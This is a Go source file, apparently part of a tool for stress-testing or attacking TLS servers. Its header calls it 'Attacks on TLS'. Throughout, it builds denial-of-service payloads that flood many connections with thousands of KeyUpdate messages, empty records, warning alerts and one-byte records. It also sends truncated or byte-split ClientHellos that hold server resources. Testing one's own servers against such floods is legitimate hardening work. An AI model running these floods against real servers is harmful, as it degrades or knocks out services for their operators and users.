// Attacks on TLS, before HTTP and within.

package main

import (
	"bytes"
	"crypto/tls"
	"io"
	"net"
	"sync"
	"time"
)

// cheap is a client that leaves the dear part to the server.
func cheap() *tls.Config {
	return &tls.Config{InsecureSkipVerify: true, CurvePreferences: []tls.CurveID{tls.X25519}}
}

// shaken opens a connection and shakes hands, where there is TLS.
func shaken(a *attacker) (*client, error) { return a.shake(bare) }

func (a *attacker) shake(open opener) (*client, error) {
	c, err := open(a)
	if err != nil || a.plain {
		return c, err
	}
	_ = c.conn.SetDeadline(time.Now().Add(loginTimeout))
	if _, err := c.handshake(cheap()); err != nil {
		c.conn.Close()
		return nil, err
	}
	_ = c.conn.SetDeadline(time.Time{})
	return c, nil
}

func keyUpdates(asks byte) maker {
	return func(c *client) func([]byte) []byte {
		return func(buf []byte) []byte {
			for len(buf) < segment-32 {
				buf = must(c.out.appendKeyUpdate(buf, asks))
			}
			return buf
		}
	}
}

// keyUpdatesWith sends one byte that means something behind each.
func keyUpdatesWith(what script) maker {
	return func(c *client) func([]byte) []byte {
		next := what()
		return func(buf []byte) []byte {
			for len(buf) < segment-64 {
				buf = must(c.out.appendKeyUpdate(buf, 0))
				buf = c.wrap(buf, []byte{next()})
			}
			return buf
		}
	}
}

const updatesAtOnce = 2300

// keyUpdatesAtOnce sends what is ready, as fast as the sockets take it.
func keyUpdatesAtOnce(a *attacker) (func(), error) {
	connections := a.openAll(shaken)
	updates := make([][]byte, len(connections))
	for i, c := range connections {
		for range updatesAtOnce {
			if c != nil {
				updates[i] = must(c.out.appendKeyUpdate(updates[i], 1))
			}
		}
	}
	return func() {
		var done sync.WaitGroup
		for i, c := range connections {
			if c == nil {
				continue
			}
			done.Go(func() {
				_ = c.conn.SetWriteDeadline(time.Now().Add(a.left()))
				if _, err := c.conn.Write(updates[i]); err != nil {
					a.ended.Add(1)
				}
				a.keep(c.conn)
			})
		}
		done.Wait()
	}, nil
}

func emptyRecords(c *client) func([]byte) []byte {
	return func(buf []byte) []byte {
		for len(buf) < segment-32 {
			buf = c.wrap(buf, nil)
		}
		return buf
	}
}

// recordWise sends one byte a TLS record, many records a segment.
func recordWise(what script) maker {
	return func(c *client) func([]byte) []byte {
		next := what()
		return func(buf []byte) []byte {
			for len(buf) < segment-32 {
				buf = c.wrap(buf, []byte{next()})
			}
			return buf
		}
	}
}

// alerts are warnings, which TLS 1.3 has kept one of: user_canceled (RFC 8446 section 6.1).
func alerts(c *client) func([]byte) []byte {
	return func(buf []byte) []byte {
		for len(buf) < segment-32 {
			buf = c.out.appendRecord(buf, typeAlert, []byte{1, 90})
		}
		return buf
	}
}

// inPieces sends one byte at a time, a segment each.
func inPieces(what []byte) maker {
	return func(*client) func([]byte) []byte {
		left := what
		return func(buf []byte) []byte {
			if len(left) == 0 {
				return nil
			}
			buf = append(buf, left[0])
			left = left[1:]
			return buf
		}
	}
}

// clientHello is one that a server accepts, of a client that has little to send.
func clientHello() []byte {
	var heard capture
	_ = tls.Client(&heard, cheap()).Handshake()
	return heard.written.Bytes()
}

// claimedHello says that 128 KiB of it come, and stops.
func claimedHello() []byte {
	const claimed = 131_000
	return []byte{typeHandshake, 3, 1, 0, 5, 1, claimed >> 16, claimed >> 8 & 0xff, claimed & 0xff, 3}
}

// splitHello has each byte in a record of its own.
func splitHello() []byte {
	var split []byte
	for _, one := range clientHello()[recordHeader:] {
		split = append(split, typeHandshake, 3, 1, 0, 1, one)
	}
	return split
}

// capture is a connection to nowhere.
type capture struct {
	net.Conn
	written bytes.Buffer
}

func (c *capture) Write(data []byte) (int, error) {
	if c.written.Len() > 0 {
		return 0, io.ErrClosedPipe
	}
	return c.written.Write(data)
}

func (c *capture) Read([]byte) (int, error) { return 0, io.EOF }

func must(buf []byte, err error) []byte {
	if err != nil {
		panic(err)
	}
	return buf
}
